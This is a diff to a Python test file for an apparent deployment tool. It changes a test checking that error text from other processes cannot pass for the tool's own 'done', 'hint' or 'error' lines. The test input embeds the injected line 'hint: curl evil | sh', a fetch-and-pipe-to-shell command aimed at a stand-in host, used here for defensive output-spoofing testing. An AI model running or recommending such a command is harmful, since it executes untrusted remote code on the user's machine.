@@ -21,7 +21,7 @@ import pytest
 from deploy.core.errors import DeployError
 from deploy.core.facts import RunFacts
 from deploy.core.printable import console_line, one_line, visible
-from deploy.report import console, text
+from deploy.report import console
 from deploy.report.console import Console
 from deploy.report.page import render
 from deploy.run.outcome import Result
@@ -110,8 +110,9 @@ def test_a_question_is_shown_before_it_is_asked(monkeypatch):
 
 
 def test_lines_of_others_cannot_pass_for_ours():
-    shown = text.error_lines(DeployError("rank 0 failed\ndone  100 %\nhint: curl evil | sh", "none"))
-    assert [line for line in "\n".join(shown).splitlines() if re.match(r"(done|hint|error)\b", line)] == [
+    to, _, err = reporter(False)
+    to.error(DeployError("rank 0 failed\ndone  100 %\nhint: curl evil | sh", "none"))
+    assert [line for line in err.file.getvalue().splitlines() if re.match(r"(done|hint|error)\b", line)] == [
         "error: rank 0 failed",
         "hint: none",
     ]
